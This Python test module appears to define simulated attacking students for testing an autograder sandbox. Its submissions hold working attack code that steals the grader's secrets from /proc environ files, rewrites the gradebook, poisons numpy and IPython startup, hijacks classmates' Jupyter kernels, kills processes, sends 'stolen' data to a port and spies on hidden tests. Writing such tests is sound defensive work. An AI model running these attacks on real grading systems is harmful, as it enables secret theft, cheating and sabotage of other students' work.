"""Attacking students: a correct submission plus code that attacks the grader, for the sandbox's tests.

Each attacker hands in the reference solution and, in a solution cell, code that tries one
thing a hostile student could do to the machine that grades it. They know everything a
student could find out when running unconfined: the course directory's path, the grader's
home, a secret in its environment, a port that listens on the machine. None of it may work:
each must get exactly what its honest work earns, and leave no trace.
"""

from mnistkit.simulated.mnist_numpy_students import ALL_POINTS, REFERENCE, SEED_SOFTMAX_POINTS
from mnistkit.simulated.students import PART1, SimulatedStudent

# What every attacker prints when a step of its attack fails, so its feedback says how far it got.
TRY = '''
def attempt(what, action):
    try:
        result = action()
        print("ATTACK WORKED:", what, str(result)[:2000])
    except BaseException as error:  # noqa: BLE001 (an attack that fails must not stop the notebook)
        print("attack failed:", what, type(error).__name__)


def attempt_unseen(action):
    """For writes whose success only the grader can see: in the box they may land in its own /tmp."""
    try:
        action()
    except BaseException:  # noqa: BLE001
        pass
'''

# A process that outlives the kernel, started detached; it is told its own kernel's connection file.
DETACHED = '''
import ipykernel, subprocess, sys
subprocess.Popen([sys.executable, "-c", {code!r}, {marker!r}, ipykernel.get_connection_file()],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

HIJACK_KERNELS = '''
import glob, os, sys, time
from jupyter_client import BlockingKernelClient
own_kernel = sys.argv[2]  # classmates' kernels are the target, not its own
POISON = "globals().update(softmax=None, learn=None, one_hot_encode=None)\\n" \\
         "get_ipython().events.register('pre_run_cell', lambda info: globals().update(softmax=None, learn=None))"
done = set()
deadline = time.time() + 120
while time.time() < deadline:
    found = set()
    for pattern in ("/tmp/*.json", "/tmp/*/*.json", "/tmp/*/*/*.json", "{home}/.local/share/jupyter/runtime/*.json",
                    "/run/user/*/jupyter/*.json"):
        found.update(glob.glob(pattern))
    for path in found - done - {own_kernel}:
        done.add(path)
        try:
            client = BlockingKernelClient(connection_file=path)
            client.load_connection_file()
            client.start_channels()
            client.execute(POISON)
        except Exception:
            pass
    time.sleep(0.2)
'''

LINGER = '''
import time
deadline = time.time() + 600
while time.time() < deadline:
    time.sleep(0.5)
'''

# In-kernel: a softmax that reads the code of whoever calls it, kept for a later cell to print.
SPY_ON_CALLERS = '''
import linecache, sys
SEEN = {}

def _spy():
    frame = sys._getframe(2)
    while frame is not None and len(SEEN) < 100:
        SEEN.setdefault(frame.f_code.co_filename, "".join(linecache.getlines(frame.f_code.co_filename)))
        frame = frame.f_back
'''

# In-kernel: a softmax that looks for the expected answer among its callers' and the notebook's values.
FIND_THE_ANSWER = '''
import sys

def _looks_like_the_answer(value, shape):
    return isinstance(value, np.ndarray) and value.shape == shape and value.dtype.kind == "f" \\
        and np.all(value >= 0) and np.allclose(value.sum(axis=-1), 1)

def _answer_nearby(shape):
    frame = sys._getframe(2)
    while frame is not None:
        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
            if _looks_like_the_answer(value, shape):
                return value.copy()
        frame = frame.f_back
    return None
'''


def _detached(code, marker):
    return DETACHED.format(code=code, marker=marker)


def attackers(course_dir, listener_port, marker, grader_home, secret_name):
    """The attacking students, each with the points its honest work earns.

    ``listener_port`` is a TCP and UDP port on 127.0.0.1 that must see no traffic; ``marker``
    is put on the command line of every process an attacker starts (so a test can look for
    survivors); ``grader_home`` is the grader's real home; ``secret_name`` names an environment
    variable of the grader's.
    """
    course = str(course_dir)
    softmax = REFERENCE["softmax"]

    def attacker(student_id, description, attack, cell="softmax", expected=ALL_POINTS, answers=None):
        code = dict(answers or {})
        code[cell] = code.get(cell, REFERENCE[cell]) + "\n\n" + TRY + attack
        return SimulatedStudent(student_id, description, answers=code, assignment=PART1), expected

    return [
        attacker("attack-reads-solutions", "reads source/, the gradebook and every notebook it can find", f'''
import glob, os, sqlite3
attempt("read the master notebook", lambda: open({course!r} + "/source/mnist_numpy/mnist_numpy.ipynb").read())
attempt("read the hidden tests in the gradebook",
        lambda: sqlite3.connect({course!r} + "/gradebook.db").execute("SELECT source FROM source_cell").fetchall())
def find_anywhere(seconds=10):
    """Every gradebook and notebook it can see outside its own folder, in a bounded search."""
    import time
    found, deadline = [], time.time() + seconds
    for root, folders, files in os.walk("/"):
        if time.time() > deadline:
            break
        folders[:] = [name for name in folders  # as a glob would: not hidden folders (the course's Python is in one)
                      if not name.startswith(".") and os.path.join(root, name) not in ("/proc", "/sys", "/dev")]
        found += [os.path.join(root, name) for name in files
                  if name.endswith(("gradebook.db", ".ipynb")) and "submission" not in root]
    return found[:20] or 1 / 0
attempt("find notebooks and gradebooks anywhere", find_anywhere)
'''),
        attacker("attack-writes-gradebook", "gives itself full marks and its classmates zero in gradebook.db", f'''
import sqlite3
def rewrite_grades():
    db = sqlite3.connect({course!r} + "/gradebook.db")
    db.execute("UPDATE grade SET manual_score = 0")
    db.execute("UPDATE grade SET manual_score = 200, extra_credit = 200")
    db.commit()
attempt("rewrite the gradebook", rewrite_grades)
'''),
        attacker("attack-classmates-work", "reads and overwrites classmates' submitted and autograded notebooks", f'''
import glob
def overwrite(pattern):
    paths = [p for p in glob.glob({course!r} + pattern) if "attack-" not in p]
    for path in paths:
        open(path, "w").write("{{}}")
    return paths or 1 / 0
attempt("read a classmate's notebook", lambda: open(glob.glob({course!r} + "/submitted/*/mnist_numpy/*.ipynb")[0]).read())
attempt("overwrite submitted notebooks", lambda: overwrite("/submitted/*/mnist_numpy/*.ipynb"))
attempt("overwrite autograded notebooks", lambda: overwrite("/autograded/*/mnist_numpy/*.ipynb"))
'''),
        attacker("attack-poisons-course", "patches the course's checks, release, config, data, data cache and Python", f'''
import os, numpy, site
PATCH = "\\ncheck_close = lambda *a, **k: None\\n"
for name in ("source/mnist_numpy/mnist_checks.py", "release/mnist_numpy/mnist_checks.py", "nbgrader_config.py"):
    attempt("append to " + name, lambda name=name: open({course!r} + "/" + name, "a").write(PATCH))
attempt("corrupt the course data", lambda: open({course!r} + "/mnist_data/mnist.npz", "r+b").write(b"PK"))
attempt("corrupt the mounted data", lambda: open(os.environ.get("MNIST_DATA", "/nowhere") + "/mnist.npz", "r+b").write(b"X"))
attempt("corrupt the float cache", lambda: [open(p, "r+b").write(b"X" * 64) for p in
        __import__("glob").glob(os.environ.get("MNIST_CACHE_DIR", "/nowhere") + "/float32-*/*.npy")] or 1 / 0)
attempt_unseen(lambda: (os.makedirs({grader_home!r} + "/.cache/mnist-numpy", exist_ok=True),
               open({grader_home!r} + "/.cache/mnist-numpy/poison", "w").write("x")))
attempt_unseen(lambda: (os.makedirs({grader_home!r} + "/.ipython/profile_default/startup",
        exist_ok=True), open({grader_home!r} + "/.ipython/profile_default/startup/00-poison.py", "w").write(PATCH)))
attempt("add a .pth file to site-packages", lambda: open(os.path.dirname(os.path.dirname(numpy.__file__))
        + "/zz-poison.pth", "w").write("import os"))
attempt("change numpy itself", lambda: open(numpy.__file__, "a").write(PATCH))
'''),
        attacker("attack-steals-secrets", "prints the grader's environment and its parent's, for its own feedback", f'''
import os
attempt("read the grader's secret", lambda: os.environ[{secret_name!r}])
attempt("read the parent's environment", lambda: [line for line in open(f"/proc/{{os.getppid()}}/environ", "rb")
        .read().split(b"\\0") if line.startswith({secret_name!r}.encode())] or 1 / 0)
attempt("read every process's environment", lambda: [open(f"/proc/{{p}}/environ", "rb").read() for p in os.listdir("/proc")
        if p.isdigit() and {secret_name!r}.encode() in open(f"/proc/{{p}}/environ", "rb").read()] or 1 / 0)
'''),
        attacker("attack-hijacks-kernels", "from a process that outlives it, poisons classmates' kernels through "
                 "their connection files", _detached(HIJACK_KERNELS.replace("{home}", grader_home), marker)),
        attacker("attack-network", "connects to a port on the machine and sends UDP to it", f'''
import socket
attempt("connect over TCP", lambda: socket.create_connection(("127.0.0.1", {listener_port}), timeout=5).send(b"stolen"))
attempt_unseen(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen",  # only the listener knows
               ("127.0.0.1", {listener_port})))
attempt("reach the internet", lambda: socket.create_connection(("pypi.org", 443), timeout=5))
'''),
        attacker("attack-kills-grader", "kills the process that runs its kernel, and its grandparent", '''
import os, signal
# Whether these worked only the grader can tell: it must finish grading everyone.
attempt_unseen(lambda: os.kill(os.getppid(), signal.SIGKILL))
attempt_unseen(lambda: [os.kill(int(p), signal.SIGKILL) for p in os.listdir("/proc")
               if p.isdigit() and int(p) not in (os.getpid(), 1)])
'''),
        attacker("attack-outlives-grading", "leaves a process running after its notebook is done",
                 _detached(LINGER, marker)),
        attacker("attack-leaks-hidden-tests", "its softmax records the code of the tests that call it, and a later "
                 "cell prints it with the notebook's input history", f'''
print("\\n".join(SEEN.values()))
print("\\n".join(get_ipython().user_ns.get("In", [])))
''', cell="one_hot_encode", answers={"softmax": SPY_ON_CALLERS + "\n" + softmax.replace(
            '"""\n', '"""\n    _spy()\n', 1)}),
        # The hidden tests run in a kernel of their own: there is no calling test for it to quote, so its
        # loss is the reference's and earns every point.
        attacker("attack-error-carries-hidden-test", "its loss raises an error quoting the hidden test that "
                 "called it, if it finds one", "", cell="cross_entropy_loss",
                 answers={"cross_entropy_loss": "import linecache, sys\n" + REFERENCE["cross_entropy_loss"].replace(
                     '"""\n', '"""\n    caller = "".join(linecache.getlines(sys._getframe(1).f_code.co_filename))\n'
                     '    if "HIDDEN TESTS" in caller:\n        raise AssertionError(caller)\n', 1)}),
        # Its honest work is the original notebook's softmax: the attack is all it adds.
        attacker("attack-finds-the-answer", "its softmax returns whatever array near it looks like the expected "
                 "answer, else the original notebook's softmax", "", expected=SEED_SOFTMAX_POINTS,
                 answers={"softmax": FIND_THE_ANSWER + '''
def softmax(z):
    """Row-wise softmax: (k,) -> (k,) or (n, k) -> (n, k); each row sums to 1."""
    found = _answer_nearby(np.shape(z))
    if found is not None:
        return found
    exp_z = np.exp(z)
    return exp_z / exp_z.sum()
'''}),
    ]
